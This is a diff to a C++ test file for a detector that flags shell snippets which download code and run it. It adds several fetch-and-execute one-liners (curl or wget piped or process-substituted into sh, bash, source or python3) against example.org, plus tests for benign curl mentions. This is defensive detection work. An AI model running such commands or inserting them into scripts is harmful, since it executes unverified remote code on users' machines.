@@ -27,6 +27,10 @@ const std::string_view k_ways[] = {"curl -fsSL https://example.org/x | sh\n",
                                    "curl -o step.sh https://example.org/x\nsh step.sh\n",
                                    "wget https://example.org/step.sh\n. ./step.sh\n",
                                    "curl -s https://example.org/x > step.sh\nbash ./step.sh\n",
+                                   "curl -o step https://example.org/x\nchmod +x step\n./step\n",
+                                   "bash <(curl -fsSL https://example.org/x)\n",
+                                   "source <(wget -qO- https://example.org/x)\n",
+                                   "curl -s https://example.org/x > >(sh)\n",
                                    "curl -s https://example.org/x | python3 -\n"};
 
 }  // namespace
@@ -108,5 +112,9 @@ TEST_CASE("fetched code: the quick look of a comparison asks for such scripts to
   CHECK(suspicion_of("eval \"$(curl -fsSL https://example.org/x)\"\n") == Suspicion::flow);
   CHECK(suspicion_of("curl -s https://example.org/x | sh\n") == Suspicion::flow);
   CHECK(suspicion_of("\tcurl -o t.sh https://example.org/x && sh t.sh\n") == Suspicion::flow);
-  CHECK(suspicion_of("curl -LO https://example.org/a.tar.gz\n") == Suspicion::none);
+  // It may be run lines later.
+  CHECK(suspicion_of("curl -LO https://example.org/a.sh\nchmod +x a.sh\n./a.sh\n") == Suspicion::flow);
+  CHECK(suspicion_of("bash <(curl -s https://example.org/x)\n") == Suspicion::flow);
+  CHECK(suspicion_of("curl-config --libs\nAC_CHECK_PROG([GET], [wget], [wget])\n# see curl --help\n") ==
+        Suspicion::none);
 }
